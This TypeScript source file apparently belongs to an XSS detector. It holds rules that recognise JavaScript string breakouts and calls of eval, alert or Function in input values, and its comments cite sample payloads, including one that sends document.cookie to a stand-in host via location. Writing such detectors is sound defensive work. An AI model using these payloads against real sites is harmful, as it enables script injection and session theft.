/**
 * Rules for a plain value that may land in a script: a string breakout (`";alert(1);//`) and a call of a function
 * that runs a string as code or is the proof-of-concept of every XSS (`eval(...)`, `alert(1)`, `alert\`1\``).
 * JavaScript is case-sensitive, so `Function(` counts and prose such as "function (1)" does not.
 */

import { budget, READ_SHIFT } from './budget.js';
import {
  AMPERSAND,
  BACKTICK,
  COMMA,
  DOUBLE_QUOTE,
  EQUALS,
  GREATER_THAN,
  isHtmlSpace,
  isIdentifierUnit,
  isLetter,
  isScriptSpace,
  LEFT_PAREN,
  LESS_THAN,
  MINUS,
  PLUS,
  RIGHT_PAREN,
  SEMICOLON,
  SINGLE_QUOTE,
  SLASH,
  startsWithWord,
} from './chars.js';
import { NameTable } from './names.js';
import { checkComputedGlobalCall } from './script-idioms.js';

/** How far a rule looks around its trigger, in code units. */
const MAX_WORD_UNITS = 64;
const MAX_CALL_UNITS = 128;
/** Longest name a string breakout calls, dots included. */
export const BREAKOUT_NAME_UNITS = MAX_WORD_UNITS;
/** Most `)]}` a string breakout closes after its quote. */
export const BREAKOUT_CLOSERS = 7;
/** Most spaces between a called name and its `(` or backtick. */
const CALL_SPACES = 7;

/**
 * Functions that compile a string as code (`eval`, `Function`, `setTimeout`/`setInterval` with a string,
 * `execScript`) and the dialogs an injected script calls to prove it ran.
 */
const SINK_NAMES: readonly string[] = [
  'eval',
  'Function',
  'setTimeout',
  'setInterval',
  'execScript',
  'alert',
  'prompt',
  'confirm',
];
const SINKS = new NameTable<string>(
  SINK_NAMES.map((name) => [name, `js-call:${name}`] as const),
  true,
);

/** 1 for the first unit of a sink's name: a `=` before one may give the sink another name (`$=alert`). */
export const SINK_FIRST = new Uint8Array(0x10000);
for (const name of SINK_NAMES) SINK_FIRST[name.charCodeAt(0)] = 1;

/** 1 for the last unit of a name {@link checkScriptCall} reads: a sink's last letter, or the `]` of a quoted one. */
const CALL_ENDS = new Uint8Array(0x80);
for (const name of SINK_NAMES) CALL_ENDS[name.charCodeAt(name.length - 1)] = 1;
CALL_ENDS[0x5d] = 1;
CALL_ENDS[RIGHT_PAREN] = 1;

/**
 * True when `checkScriptCall` can find a call before the `(` or backtick at `open`: the unit before it, a few
 * spaces skipped, ends a sink's name, a quoted one or a parenthesised one (`alert (`, `["alert"](`, `(alert)(`).
 * Most calls in code and prose (`print(`, `f(`) are ruled out by that unit alone.
 */
export function mayCallSink(codes: Uint16Array, open: number): boolean {
  let i = open - 1;
  while (i >= 0 && open - i <= CALL_SPACES && isHtmlSpace(codes[i] as number)) i--;
  budget.left -= (open - 1 - i) >> READ_SHIFT;
  const c = i >= 0 ? (codes[i] as number) : 0;
  return c < 0x80 && CALL_ENDS[c] === 1;
}

/**
 * Operators that can follow a closed string and start a new expression or statement: `; + - * , | &` and the
 * arithmetic, bitwise and relational `/ % ^ < >` (`"/alert(1)//`, `'^alert(1)^'`).
 */
export function isJoiningOperator(c: number): boolean {
  return (
    c === SEMICOLON ||
    c === PLUS ||
    c === MINUS ||
    c === 0x2a ||
    c === COMMA ||
    c === 0x7c ||
    c === AMPERSAND ||
    c === SLASH ||
    c === 0x25 ||
    c === 0x5e ||
    c === LESS_THAN ||
    c === GREATER_THAN
  );
}

/** The joining operators prose also writes between words, spaced: `/ % ^ < >`. */
function isProseOperator(c: number): boolean {
  return c === SLASH || c === 0x25 || c === 0x5e || c === LESS_THAN || c === GREATER_THAN;
}

/**
 * Names whose assignment runs script or sends the page elsewhere once a string is broken out of: `onerror`
 * (`';{onerror=alert}throw 1//`, the next error calls it) and the page's location (`";location='//x/?'+
 * document.cookie//`).
 */
const ASSIGNED_TARGETS = new NameTable<true>(
  [
    'onerror',
    'window.onerror',
    'self.onerror',
    'location',
    'location.href',
    'window.location',
    'document.location',
    'top.location',
    'self.location',
  ].map((name) => [name, true] as const),
  true,
);

/** Where the `/* ... *\/` comments and spaces from `at` end, within {@link CALL_SPACES} units of each: `alert/**\/(1)`. */
function skipComments(codes: Uint16Array, at: number, end: number): number {
  let i = at;
  for (;;) {
    const from = i;
    while (i < end && i - from <= CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
    if (codes[i] !== SLASH || codes[i + 1] !== 0x2a || i + 1 >= end) return i;
    const limit = Math.min(end, i + MAX_WORD_UNITS);
    let close = i + 2;
    while (close + 1 < limit && !(codes[close] === 0x2a && codes[close + 1] === SLASH)) close++;
    if (close + 1 >= limit) return i;
    i = close + 2;
  }
}

/**
 * At a quote: a JavaScript string breakout (`";alert(1);//`, `'-alert(1)-'`, `');alert(1)//`): the quote closes
 * the string, an operator joins a new expression, and that expression is a call of a named function whose
 * parentheses close. Prose and names with apostrophes (`O'Connell`, `"Dr. Who" and coffee`) have no operator then
 * call. Past the quote the value is script: JavaScript's spaces separate its tokens (`";\u2028alert(1)`),
 * not only the HTML ones.
 *
 * @example checkScriptBreakout(codes, 0, 0, length) // 'js-breakout' for "\";alert(1);//"
 */
export function checkScriptBreakout(codes: Uint16Array, quote: number, end: number): string | undefined {
  const found = readScriptBreakout(codes, quote, end);
  // Any number of spaces is read after the quote and the operator: a value diluted with them pays for each.
  budget.left -= (breakoutRead - quote) >> READ_SHIFT;
  return found;
}

/** How far the last {@link readScriptBreakout} read. */
let breakoutRead = 0;

function readScriptBreakout(codes: Uint16Array, quote: number, end: number): string | undefined {
  let i = quote + 1;
  breakoutRead = i;
  while (
    i < end &&
    i - quote <= BREAKOUT_CLOSERS &&
    (codes[i] === RIGHT_PAREN || codes[i] === 0x5d || codes[i] === 0x7d)
  )
    i++;
  while (i < end && isScriptSpace(codes[i] as number)) i++;
  breakoutRead = i;
  if (i >= end) return undefined;
  const operator = codes[i] as number;
  // The operators that also join prose, paths and patterns (`'^user(name)?$'`, `grep "^Error(s)"`, `'50'% off`):
  // after them the breakout is read only glued to a sink, called or tagged (`"/alert?.(1)//`, `'^alert(1)^'`).
  let sinkOnly = isProseOperator(operator);
  if (isJoiningOperator(operator)) {
    i++;
    if (codes[i] === operator) i++;
  } else if ((operator === EQUALS || operator === 0x21) && codes[i + 1] === EQUALS) {
    // `"==alert(1)`, `'!=alert(1)'`: a comparison (a lone `=` after a literal is no JavaScript).
    i += codes[i + 2] === EQUALS ? 3 : 2;
    sinkOnly = true;
  } else if (isScriptSpace(codes[i - 1] as number) && startsWithWord(codes, i, end, 'instanceof')) {
    i += 10;
    if (i >= end || !isScriptSpace(codes[i] as number)) return undefined;
    sinkOnly = true;
  } else return undefined;
  if (sinkOnly) {
    if (i < end && isScriptSpace(codes[i] as number) && isProseOperator(operator)) return undefined;
    while (i < end && isScriptSpace(codes[i] as number)) i++;
    return i < end && codes[i] === 0x5b ? arrayMethodCall(codes, i, end, true) : sinkCalled(codes, i, end);
  }
  while (i < end && isScriptSpace(codes[i] as number)) i++;
  // A block after a `;` (`';{onerror=alert}throw 1//`), an object made with `new` (`";new Image().src=...`).
  if (operator === SEMICOLON && codes[i] === 0x7b) i = skipComments(codes, i + 1, end);
  if (startsWithWord(codes, i, end, 'new') && isScriptSpace(codes[i + 3] as number)) {
    i += 3;
    while (i < end && isScriptSpace(codes[i] as number)) i++;
  }
  // An array literal's method called: `'-[1].find(alert)-'`.
  if (i < end && codes[i] === 0x5b) return arrayMethodCall(codes, i, end, false);
  const nameStart = i;
  const limit = Math.min(end, i + BREAKOUT_NAME_UNITS);
  while (i < limit && (isIdentifierUnit(codes[i] as number) || codes[i] === 0x2e)) i++;
  breakoutRead = i;
  // The scratch buffers hold a previous value's units past `end`: the unit after the name is read only before it.
  if (i >= end || i === nameStart) return undefined;
  if (ASSIGNED_TARGETS.get(codes, nameStart, i) !== undefined && assignsTarget(codes, i, end))
    return 'js-breakout';
  // A sink given another name, then called by it: `");$=alert, $(1);//`. Not after `,`, `|` or `&`, which join
  // a URL's or a list's parts ("&type=alert"), and only when the new name is called.
  if (
    (operator === SEMICOLON || operator === PLUS || operator === MINUS || operator === 0x2a) &&
    (codes[i] === EQUALS || isScriptSpace(codes[i] as number)) &&
    assignsSink(codes, i, end) &&
    callsLater(codes, nameStart, i, breakoutRead, end)
  )
    return 'js-breakout';
  const first = codes[nameStart] as number;
  if (i - nameStart < 2 || !(isLetter(first) || first === 0x5f || first === 0x24)) return undefined;
  // A tagged template after a backtick that closed one: Markdown's inline code reads so (`-abc`, `--harmony`), a
  // flag between backticks. There the tag must be a sink (`-alert`1`-`); after a quote, any name.
  if (codes[i] === BACKTICK)
    return codes[quote] !== BACKTICK || SINKS.get(codes, lastSegment(codes, nameStart, i), i) !== undefined
      ? 'js-breakout'
      : undefined;
  return callAfterName(codes, i, end);
}

/**
 * True when the name ending at `nameEnd`, one of {@link ASSIGNED_TARGETS}, is assigned: spaces, one `=` (not `==`
 * or `=>`), and for `onerror` a sink (`onerror=alert`), for the page's location what code builds a URL with.
 */
function assignsTarget(codes: Uint16Array, nameEnd: number, end: number): boolean {
  if (startsWithWord(codes, nameEnd - 7, nameEnd, 'onerror')) return assignsSink(codes, nameEnd, end);
  let i = nameEnd;
  while (i < end && i - nameEnd <= CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
  breakoutRead = i;
  if (codes[i] !== EQUALS || i + 1 >= end || codes[i + 1] === EQUALS || codes[i + 1] === 0x3e) return false;
  i++;
  while (i < end && i - nameEnd <= 2 * CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
  // A URL or an expression built of code: a literal, a call, a concatenation, a member (`location=name//` cuts
  // the rest); "location=Berlin" is a form's text.
  const c = codes[i] as number;
  if (c === SINGLE_QUOTE || c === DOUBLE_QUOTE || c === BACKTICK) return true;
  const nameStart = i;
  const limit = Math.min(end, i + MAX_WORD_UNITS);
  while (i < limit && (isIdentifierUnit(codes[i] as number) || codes[i] === 0x2e)) i++;
  breakoutRead = i;
  if (i === nameStart || i >= end) return false;
  const after = codes[i] as number;
  if (after === LEFT_PAREN || after === PLUS || after === 0x5b) return true;
  // The scratch buffers hold a previous value's units past `end`: the second `/` is read only before it.
  return after === SLASH && i + 1 < end && codes[i + 1] === SLASH;
}

/**
 * After a breakout's operator, at `[`: an array literal whose method is called (`[1].find(alert)`), or undefined;
 * with `sinkOnly`, given a sink (`[1].map(alert)`).
 */
function arrayMethodCall(
  codes: Uint16Array,
  open: number,
  end: number,
  sinkOnly: boolean,
): string | undefined {
  const limit = Math.min(end, open + MAX_WORD_UNITS);
  let i = open + 1;
  while (i < limit && codes[i] !== 0x5d && codes[i] !== LEFT_PAREN) i++;
  if (codes[i] !== 0x5d || codes[i + 1] !== 0x2e) return undefined;
  i += 2;
  const nameStart = i;
  while (i < limit && isIdentifierUnit(codes[i] as number)) i++;
  breakoutRead = i;
  if (i - nameStart < 2 || i >= end || codes[i] !== LEFT_PAREN) return undefined;
  if (sinkOnly) {
    const argument = i + 1;
    let k = argument;
    while (k < limit && isIdentifierUnit(codes[k] as number)) k++;
    if (SINKS.get(codes, argument, k) === undefined) return undefined;
  }
  const reach = Math.min(end, i + MAX_CALL_UNITS);
  breakoutRead = closingParen(codes, i, reach);
  return breakoutRead < reach ? 'js-breakout' : undefined;
}

/**
 * At `at`, right after a breakout's operator: a sink called (`alert(1)`, `alert?.(1)`, `top.alert(1)`) or tagged
 * (`alert\`1\``), with its call's parenthesis closing; else undefined.
 */
function sinkCalled(codes: Uint16Array, at: number, end: number): string | undefined {
  const limit = Math.min(end, at + BREAKOUT_NAME_UNITS);
  let i = at;
  while (i < limit && (isIdentifierUnit(codes[i] as number) || codes[i] === 0x2e)) i++;
  breakoutRead = i;
  if (i >= end || i === at || SINKS.get(codes, lastSegment(codes, at, i), i) === undefined) return undefined;
  if (codes[i] === BACKTICK) return 'js-breakout';
  return callAfterName(codes, i, end);
}

/**
 * After a called name at `at`: comments and optional chaining before its `(` (`alert/**\/(1)`, `alert?.(1)`),
 * then the `(` and the `)` that closes it, within reach: a breakout's call; else undefined.
 */
function callAfterName(codes: Uint16Array, at: number, end: number): string | undefined {
  let i = skipComments(codes, at, end);
  if (codes[i] === 0x3f && codes[i + 1] === 0x2e && codes[i + 2] === LEFT_PAREN) i += 2;
  breakoutRead = i;
  if (i >= end || codes[i] !== LEFT_PAREN) return undefined;
  const reach = Math.min(end, i + MAX_CALL_UNITS);
  breakoutRead = closingParen(codes, i, reach);
  return breakoutRead < reach ? 'js-breakout' : undefined;
}

/**
 * True when `codes[at...]`, after a name, assigns it a sink (`= alert`, `=eval;`): spaces, one `=` (not `==` or
 * `=>`), spaces, and a sink's name, which ends the assignment.
 */
function assignsSink(codes: Uint16Array, at: number, end: number): boolean {
  breakoutRead = at;
  let i = at;
  while (i < end && i - at <= CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
  if (i >= end || codes[i] !== EQUALS) return false;
  i++;
  if (i < end && (codes[i] === EQUALS || codes[i] === 0x3e)) return false;
  while (i < end && i - at <= 2 * CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
  const nameStart = i;
  while (i < end && i - nameStart <= 11 && isIdentifierUnit(codes[i] as number)) i++;
  breakoutRead = i;
  if (i - nameStart < 4 || SINKS.get(codes, nameStart, i) === undefined) return false;
  // The assignment ends there (`,`, `;`, `)`, a comment, the value's end): `x = alert level` is prose.
  while (i < end && i - nameStart <= 11 + CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
  breakoutRead = i;
  if (i >= end) return true;
  const c = codes[i] as number;
  return c === COMMA || c === SEMICOLON || c === RIGHT_PAREN || c === 0x7d || c === 0x2f;
}

/** How far after the assignment {@link callsLater} looks for the call. */
const ALIAS_CALL_REACH = 128;

/**
 * True when the name `codes[nameStart..nameEnd)` is called (`name(` or a tagged template) in `codes[from..)`,
 * within {@link ALIAS_CALL_REACH}, standing alone.
 */
function callsLater(
  codes: Uint16Array,
  nameStart: number,
  nameEnd: number,
  from: number,
  end: number,
): boolean {
  const length = nameEnd - nameStart;
  const limit = Math.min(end, from + ALIAS_CALL_REACH);
  for (let i = from; i + length < limit; i++) {
    let k = 0;
    while (k < length && codes[i + k] === codes[nameStart + k]) k++;
    if (k < length) continue;
    const before = i > 0 ? (codes[i - 1] as number) : 0x20;
    const after = codes[i + length] as number;
    if (!isIdentifierUnit(before) && before !== 0x2e && (after === LEFT_PAREN || after === BACKTICK)) {
      budget.left -= (i - from) >> READ_SHIFT;
      return true;
    }
  }
  budget.left -= (limit - from) >> READ_SHIFT;
  return false;
}

/** True when the `=` at `at` assigns a sink (see {@link assignsSink}): the test before {@link aliasBreakoutBefore}. */
export function isSinkAssigned(codes: Uint16Array, at: number, end: number): boolean {
  const found = assignsSink(codes, at, end);
  budget.left -= (breakoutRead - at) >> READ_SHIFT;
  return found;
}

/**
 * At a `=` in a long value, read before it (`checkScriptBreakout` reads after a quote): a name, a joining operator,
 * at most {@link BREAKOUT_CLOSERS} `)]}` and a quote, then the breakout from that quote (`");$=alert, $(1);//`).
 */
export function aliasBreakoutBefore(codes: Uint16Array, equals: number, end: number): string | undefined {
  let i = equals - 1;
  while (i >= 0 && equals - i <= CALL_SPACES && isScriptSpace(codes[i] as number)) i--;
  const nameEnd = i + 1;
  while (
    i >= 0 &&
    nameEnd - i <= BREAKOUT_NAME_UNITS &&
    (isIdentifierUnit(codes[i] as number) || codes[i] === 0x2e)
  )
    i--;
  if (i + 1 === nameEnd) return undefined;
  const nameStart = i + 1;
  while (i >= 0 && nameStart - i <= CALL_SPACES && isScriptSpace(codes[i] as number)) i--;
  // A block opened after a `;` (`';{onerror=alert}throw 1//`), as `checkScriptBreakout` reads it forward.
  if (i > 0 && codes[i] === 0x7b) {
    const brace = i;
    i--;
    while (i >= 0 && brace - i <= CALL_SPACES && isScriptSpace(codes[i] as number)) i--;
    if (i < 0 || codes[i] !== SEMICOLON) return undefined;
  }
  if (i < 0 || !isJoiningOperator(codes[i] as number)) return undefined;
  const operator = codes[i];
  i--;
  if (i >= 0 && codes[i] === operator) i--;
  const operatorStart = i;
  while (i >= 0 && operatorStart - i <= CALL_SPACES && isScriptSpace(codes[i] as number)) i--;
  const closersEnd = i;
  while (
    i >= 0 &&
    closersEnd - i < BREAKOUT_CLOSERS &&
    (codes[i] === RIGHT_PAREN || codes[i] === 0x5d || codes[i] === 0x7d)
  )
    i--;
  budget.left -= (equals - Math.max(i, 0)) >> READ_SHIFT;
  const quote = i >= 0 ? (codes[i] as number) : 0;
  if (quote !== DOUBLE_QUOTE && quote !== SINGLE_QUOTE && quote !== BACKTICK) return undefined;
  return checkScriptBreakout(codes, i, end);
}

/** Index of the `)` that closes the `(` at `open`, or `limit` when none does before it. */
function closingParen(codes: Uint16Array, open: number, limit: number): number {
  let depth = 0;
  for (let i = open; i < limit; i++) {
    if (codes[i] === LEFT_PAREN) depth++;
    else if (codes[i] === RIGHT_PAREN && --depth === 0) return i;
  }
  return limit;
}

/**
 * Where the sink-sized name (4 to 11 units) ending at `nameEnd` begins, read back no further than `start`, or -1
 * when the name there is shorter or longer.
 */
function sinkNameStart(codes: Uint16Array, start: number, nameEnd: number): number {
  const floor = Math.max(start, nameEnd - 12);
  let i = nameEnd - 1;
  while (i >= floor && isIdentifierUnit(codes[i] as number)) i--;
  const length = nameEnd - 1 - i;
  return length < 4 || length > 11 ? -1 : i + 1;
}

/** Where the last name of the dotted chain `codes[start..end)` begins: `alert` of `top.alert`. */
function lastSegment(codes: Uint16Array, start: number, end: number): number {
  let i = end;
  while (i > start && codes[i - 1] !== 0x2e) i--;
  return i;
}

/**
 * At a `(` or a backtick: a call of a sink (`alert(1)`, `eval('...')`, `new Function(...)`, `alert\`1\``,
 * `window["alert"](1)`), or of a parenthesised one, which calls the sink as well (`(alert)(1)`, and with the comma
 * operator `(0,eval)(code)`). The name must stand alone: `1alert(1)` or `myalert(` are not the sink.
 *
 * @example checkScriptCall(codes, 0, 5, 8) // 'js-call:alert' for "alert(1)"
 */
export function checkScriptCall(
  codes: Uint16Array,
  start: number,
  open: number,
  end: number,
): string | undefined {
  let i = open - 1;
  while (i >= start && open - i <= CALL_SPACES && isHtmlSpace(codes[i] as number)) i--;
  if (codes[i] === RIGHT_PAREN) return i === open - 1 ? parenthesisedCall(codes, start, i) : undefined;
  // `window["alert"](1)`: the name is a quoted property in brackets.
  let quoted = false;
  if (codes[i] === 0x5d) {
    const quote = codes[i - 1];
    if (quote !== DOUBLE_QUOTE && quote !== SINGLE_QUOTE)
      return checkComputedGlobalCall(codes, start, i, end);
    quoted = true;
    i -= 2;
  }
  const nameEnd = i + 1;
  // No sink is longer than 11 units: a longer identifier is read no further.
  const nameStart = sinkNameStart(codes, start, nameEnd);
  if (nameStart < 0) return undefined;
  if (quoted && codes[nameStart - 1] !== codes[nameEnd]) return undefined;
  const sink = SINKS.get(codes, nameStart, nameEnd);
  if (sink === undefined || quoted) return sink;
  if (followsWord(codes, start, nameStart)) return undefined;
  if (TIMERS.has(sink) && codes[open] === LEFT_PAREN && passesFunction(codes, open, end)) return undefined;
  return isInlineCode(codes, start, nameStart, open, end) ? undefined : sink;
}

/** The timers, which run a string as code but a function as itself. */
const TIMERS: ReadonlySet<string> = new Set(['js-call:setTimeout', 'js-call:setInterval']);

/**
 * True when the first argument of the call opened at `open` is an arrow function (`() => ...`, `x => ...`): a
 * timer given one runs no string (`setTimeout(() => save(), 500)`), and an arrow's body takes all that follows it.
 * A `function` expression is not taken: what follows its body may call it or its constructor
 * (`setTimeout(function(){return name}())`).
 */
function passesFunction(codes: Uint16Array, open: number, end: number): boolean {
  const limit = Math.min(end, open + MAX_CALL_UNITS);
  let i = open + 1;
  while (i < limit && isScriptSpace(codes[i] as number)) i++;
  const wordStart = i;
  while (i < limit && isIdentifierUnit(codes[i] as number)) i++;
  if (i === wordStart) {
    // `(a, b) => ...`: parameters in parentheses, then the arrow.
    if (i >= limit || codes[i] !== LEFT_PAREN) return false;
    i = closingParen(codes, i, limit) + 1;
  }
  while (i < limit && isScriptSpace(codes[i] as number)) i++;
  budget.left -= (i - open) >> READ_SHIFT;
  return i + 1 < limit && codes[i] === EQUALS && codes[i + 1] === 0x3e;
}

/** How far back {@link isInlineCode} reads on the name's line. */
const TEMPLATE_REACH = 256;

/**
 * True when the call of the sink named at `codes[nameStart..)` and opened at `open` is Markdown's inline code, the
 * text of a template literal to JavaScript rather than a call: "the \`eval()\` function", "a \`Function\`
 * returning", "use \`window.setTimeout(fn, 0)\` to". That is: only names, dots, spaces and colons (\`visitor:
 * Function\`) between the sink and the backtick before it, an odd number of backticks on its line up to that one, and a backtick right after
 * the call (for a tagged template, the one at `open`). Anything else between (`*\/`, `/`, `;`, `+`, `${`) makes it
 * code: a backtick in a comment or a regular expression hides no call (`';/*\`*\/alert(1)//`).
 */
function isInlineCode(
  codes: Uint16Array,
  start: number,
  nameStart: number,
  open: number,
  end: number,
): boolean {
  const floor = Math.max(start, nameStart - TEMPLATE_REACH);
  let i = nameStart - 1;
  while (i >= floor) {
    const c = codes[i] as number;
    if (!(isIdentifierUnit(c) || c === 0x2e || c === 0x20 || c === 0x3a)) break;
    i--;
  }
  if (i < floor || codes[i] !== BACKTICK) {
    budget.left -= (nameStart - 1 - i) >> READ_SHIFT;
    return false;
  }
  let backticks = 0;
  for (; i >= floor; i--) {
    const c = codes[i] as number;
    if (c === BACKTICK) backticks++;
    else if (c === 0x0a || c === 0x0d) break;
  }
  budget.left -= (nameStart - 1 - i) >> READ_SHIFT;
  if ((backticks & 1) === 0) return false;
  if (codes[open] === BACKTICK) return true;
  // After the call's parentheses, the backtick that closes the inline code.
  const limit = Math.min(end, open + MAX_CALL_UNITS);
  const close = closingParen(codes, open, limit);
  budget.left -= (close - open) >> READ_SHIFT;
  return close < limit && close + 1 < end && codes[close + 1] === BACKTICK;
}

/**
 * The sink called through the parentheses that close at `close`, right before the call's (`(alert)(1)`,
 * `(0, eval)(x)`): a name right inside them, after the opening one or a comma. Prose puts a word inside them
 * (`(see alert)(1)`) or before them (`a notice (alert)(optional)`), as {@link followsWord} tells.
 */
function parenthesisedCall(codes: Uint16Array, start: number, close: number): string | undefined {
  let i = close - 1;
  while (i >= start && close - i <= CALL_SPACES && isHtmlSpace(codes[i] as number)) i--;
  const nameEnd = i + 1;
  const nameStart = sinkNameStart(codes, start, nameEnd);
  if (nameStart < 0) return undefined;
  i = nameStart - 1;
  while (i >= start && nameStart - i <= CALL_SPACES && isHtmlSpace(codes[i] as number)) i--;
  budget.left -= (close - i) >> READ_SHIFT;
  if (i < start || (codes[i] !== LEFT_PAREN && codes[i] !== COMMA)) return undefined;
  if (codes[i] === LEFT_PAREN) {
    // `input(prompt)`, `f()(alert)`: the parentheses of a call, whose argument the sink is, not a grouping.
    const before = i > start ? (codes[i - 1] as number) : 0x20;
    if (isIdentifierUnit(before) || before === RIGHT_PAREN || before === 0x5d) return undefined;
    if (followsWord(codes, start, i)) return undefined;
  }
  return SINKS.get(codes, nameStart, nameEnd);
}

/**
 * Keywords after which an expression, a call included, may follow on the same line (`return alert(1)`,
 * `new Function(...)`, `void eval(x)`).
 */
const EXPRESSION_KEYWORDS = new NameTable<true>(
  [
    'return',
    'new',
    'void',
    'typeof',
    'await',
    'yield',
    'throw',
    'delete',
    'in',
    'of',
    'else',
    'do',
    'case',
  ].map((name) => [name, true] as const),
  true,
);

/**
 * True when a word other than a keyword precedes `at` on the same line, spaces between: "the page shows alert(1)"
 * is prose, since two names side by side are no JavaScript, while `;alert(1)`, `(alert(1))`, `return alert(1)`
 * and a call at the line's start are code.
 */
function followsWord(codes: Uint16Array, start: number, at: number): boolean {
  let i = at - 1;
  while (i >= start && (codes[i] === 0x20 || codes[i] === 0x09)) i--;
  if (i === at - 1 || i < start || !isIdentifierUnit(codes[i] as number)) return false;
  const wordEnd = i + 1;
  while (i >= start && wordEnd - i <= 8 && isIdentifierUnit(codes[i] as number)) i--;
  return EXPRESSION_KEYWORDS.get(codes, i + 1, wordEnd) === undefined;
}
